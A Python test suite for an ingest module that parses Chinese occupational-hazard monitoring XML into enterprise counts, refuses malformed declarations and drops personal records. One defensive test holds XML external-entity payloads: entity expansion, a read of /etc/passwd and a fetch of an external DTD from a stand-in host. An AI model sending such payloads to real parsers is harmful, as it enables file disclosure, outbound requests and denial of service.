"""A hazard monitoring message becomes counts of enterprises, and nothing of a person is kept."""

import polars as pl
import pytest
from polars.testing import assert_frame_equal

from facts.codes import crosswalk
from facts.refusal import UnreadableFile
from ingest import take_in
from ingest.cn_health_message import SOURCE

MINE, WORKS = "91140200MADEUP911B", "91370000MADEUP912X"
ENVELOPE = "<DataExchange><EventBody>{}</EventBody></DataExchange>"
TYPES = {"line": pl.UInt32, "exposed": pl.Float64, "due": pl.Float64}
TYPES |= {"points": pl.Float64, "over": pl.Float64}
NAMES = {
    "exposed_by_agent": "exposed",
    "examinations_due_by_agent": "due",
    "hazard_points": "points",
    "hazard_points_over_limit": "over",
}


@pytest.fixture
def good(samples):
    return samples / "cn_health_message" / "detection_info.xml"


@pytest.fixture
def bad(samples):
    return samples / "cn_health_message" / "awkward.xml"


@pytest.fixture
def message(tmp_path):
    def write(text: str):
        file = tmp_path / "message.xml"
        file.write_text(text, encoding="utf-8")
        return file

    return write


def test_every_declaration_is_said_in_our_codes(facts, table, good):
    expected = table(
        f"""
        line|enterprise|period|area     |industry  |ownership|size |status|workers|exposed_workers
        ----|----------|------|---------|----------|---------|-----|------|-------|---------------
        14  |{MINE}    |2024  |CN-140200|GBT4754_06|state    |large|A     |1200   |800
        60  |{WORKS}   |2024  |CN-370102|GBT4754_26|_U       |_U   |P     |80     |30
        99  |{WORKS}   |2023  |CN-370102|GBT4754_26|private  |_U   |A     |75     |0
        140 |{WORKS}   |2022  |CN-370102|GBT4754_26|foreign  |micro|A     |70     |12
        """,
        line=pl.UInt32,
        workers=pl.Float64,
        exposed_workers=pl.Float64,
    )
    found = facts(SOURCE, good).filter(detail="_T").sort("line")
    assert_frame_equal(found.select(expected.columns), expected)


def test_every_count_of_an_agent_arrives(facts, table, good):
    expected = table(
        """
        line|detail        |exposed|due|points|over
        ----|--------------|-------|---|------|----
        14  |biological    |0      |0  |      |
        14  |chemical      |0      |0  |      |
        14  |coal_dust     |       |   |3     |2
        14  |dust          |600    |530|      |
        14  |noise         |500    |470|1     |0
        14  |other_physical|0      |0  |      |
        14  |silica_dust   |       |   |1     |1
        140 |benzene       |       |   |1     |0
        140 |biological    |0      |0  |      |
        140 |chemical      |12     |12 |      |
        140 |dust          |0      |0  |      |
        140 |noise         |0      |0  |      |
        140 |other_physical|0      |0  |      |
        """,
        **TYPES,
    )
    found = facts(SOURCE, good).filter(pl.col("detail") != "_T", pl.col("line").is_in([14, 140]))
    found = found.rename(NAMES).sort("line", "detail").select(expected.columns)
    assert_frame_equal(found, expected)


def test_a_point_with_two_results_is_one_point_over_if_either_is(facts, good):
    coal = facts(SOURCE, good).filter(detail="coal_dust")
    assert coal.select("hazard_points", "hazard_points_over_limit").row(0) == (3, 2)


def test_a_name_with_two_underscores_is_the_same_element(facts, good):
    chemical = facts(SOURCE, good).filter(line=60, detail="chemical")
    assert chemical["examinations_due_by_agent"].item() == 25


def test_what_is_unusual_is_kept_and_flagged(facts, good):
    flagged = dict(facts(SOURCE, good).filter(detail="_T").select("line", "flags").iter_rows())
    assert flagged == {
        14: "",
        60: "tested_without_results",
        99: "",
        140: "tested_in_another_year",
    }


def test_a_declaration_with_anything_wrong_is_refused_whole(facts, refused, bad):
    assert refused(SOURCE, bad) == {
        14: "CREDIT_CODE '91140200MADEUP9110' is no unified social credit code (18 characters, the "
        "last of which checks the others, GB 32100-2015); copy it from the business licence",
        55: "ALL_WORKER_SUM is 0; give the number of workers",
        96: "EXPOSE_HAZARD_WORKER_SUM 120 is more than ALL_WORKER_SUM 100",
        137: "900 exposed to one kind of hazard are more than EXPOSE_HAZARD_WORKER_SUM 800",
        178: "AUDITSTATUS '08' is neither passed nor waiting; send what has passed",
        219: "ALL_WORKER_SUM '约120' is not a whole number of up to six digits",
        260: "ALL_WORKER_SUM is missing",
        300: "CHECK_RESULT in line 335: FACTOR_CODE '8888' is no hazard agent we know",
        342: "CHECK_RESULT in line 377: DENSITY_TYPE_CODE '04' is not 01, 02, 03 or 99; "
        "CHECK_RESULT in line 377: IS_STANDARD '03' is not 01 (within the limit) or 02 (over it)",
        384: "IS_USE is 0, nothing tested, beside 1 elements CHECK_RESULT",
        426: "INDUSTRY_CATEGORY_CODE 'ZZ' is not a code of GB/T 4754-2017; area 'CN-999999' is not "
        "in the code list data/codes/area.csv; industry 'GBT4754_ZZ' is not in the code list "
        "data/codes/industry.csv",
    }
    assert set(facts(SOURCE, bad)["line"]) == {467}


def test_facts_and_rejects_are_all_the_declarations(bad, tmp_path):
    receipt = take_in(SOURCE, bad, tmp_path)
    assert (receipt.rows_read, receipt.rejects) == (12, 11)


def test_no_name_or_telephone_is_in_a_batch(good, tmp_path):
    receipt = take_in(SOURCE, good, tmp_path)
    kept = pl.read_parquet(tmp_path / "batches" / f"{receipt.batch}.parquet")
    said = kept.select(pl.concat_str(pl.all().cast(pl.String), ignore_nulls=True)).to_series()
    assert not said.str.contains("杜撰|掘进|000-0000").any()


@pytest.mark.parametrize(
    ("name", "about"),
    [
        ("HEALTH_EXAM_RECORD", "health examinations"),
        ("SUSPECTED_OCPD", "suspected diseases"),
        ("DIAGNOSE_OCPD", "diagnosed diseases"),
        ("APPRAISAL_INFO", "appraisals"),
        ("NYZD", "poisonings"),
    ],
)
def test_a_message_about_persons_is_refused_and_no_copy_is_kept(message, tmp_path, name, about):
    person = f"<{name}><WORKER_INFO><ID_CARD>0</ID_CARD></WORKER_INFO></{name}>"
    file = message(ENVELOPE.format(f"<{name}_LIST>{person}</{name}_LIST>"))
    with pytest.raises(UnreadableFile, match=f"is about {about} of persons; nothing of it is kept"):
        take_in(SOURCE, file, tmp_path / "home")
    assert not (tmp_path / "home").exists()


def test_a_person_among_declarations_is_found_wherever_they_stand(good, message, tmp_path):
    person = "<DETECTION_INFO><X><Y><ID_CARD>0</ID_CARD></Y></X></DETECTION_INFO>"
    last = "    </DETECTION_INFO_LIST>"
    file = message(good.read_text("utf-8").replace(last, person + last))
    with pytest.raises(UnreadableFile, match="DETECTION_INFO is about persons; nothing of it"):
        take_in(SOURCE, file, tmp_path / "home")
    assert not (tmp_path / "home").exists()


def test_a_message_that_withdraws_is_refused(message):
    file = message(
        "<DataExchange><Header><OperateType>Delete</OperateType></Header></DataExchange>"
    )
    with pytest.raises(UnreadableFile, match="OperateType 'Delete' is not Add or Update"):
        SOURCE.read(file)


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("<a/>", "the root is a, not DataExchange"),
        (ENVELOPE.format(""), "no element DataExchange/EventBody/DETECTION_INFO_LIST"),
        ("<DataExchange><EventBody>", r"message.xml:1: not XML to its end \(no element found\)"),
        ("period,area\n2024,CN\n", "not XML to its end"),
        ("", "not XML to its end"),
        ("<?xml version='1.0' encoding='gbk'?><DataExchange/>", "in UTF-8"),
        ("<a>" * 40, "more than 32 elements in one another"),
        (f"<DataExchange>{'x' * 5000}</DataExchange>", "has more than 4,096 characters"),
        (f"<DataExchange a='{'x' * (3 << 20)}'/>", "a tag or comment of more than 1,048,576"),
    ],
)
def test_what_is_no_message_is_refused_with_its_line(message, text, sentence):
    with pytest.raises(UnreadableFile, match=sentence):
        SOURCE.read(message(text))


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">',
        '<!ENTITY c SYSTEM "file:///etc/passwd">',
        '<!ENTITY % c SYSTEM "http://192.0.2.1/evil.dtd"> %c;',
    ],
    ids=["grows", "reads a file", "asks the network"],
)
def test_a_message_that_declares_an_entity_is_refused(message, declared):
    file = message(f"<!DOCTYPE x [{declared}]><DataExchange>&c;</DataExchange>")
    with pytest.raises(UnreadableFile, match=r"message.xml:1: a DOCTYPE"):
        SOURCE.read(file)


def test_every_hazard_of_the_specification_is_an_agent(real_data):
    file = real_data / "china" / "cdc2021_hazard_factor_codes.csv"
    theirs = pl.read_csv(file, infer_schema=False)["code"]
    assert set(crosswalk("cn_exchange_hazard", "hazard_agent")["from"]) == set(theirs)


def test_every_status_and_size_of_the_specification_is_known_or_meant_to_be_refused(real_data):
    tables = {
        name: set(
            pl.read_csv(real_data / "china" / f"cdc2021_{name}.csv", infer_schema=False)["code"]
        )
        for name in ("audit_status", "enterprise_scale")
    }
    not_approved = {"04", "06", "08", "10"}
    passed_or_waiting = set(crosswalk("cn_exchange_audit", "status")["from"])
    assert passed_or_waiting | not_approved == tables["audit_status"]
    assert set(crosswalk("cn_exchange_size", "size")["from"]) == tables["enterprise_scale"]
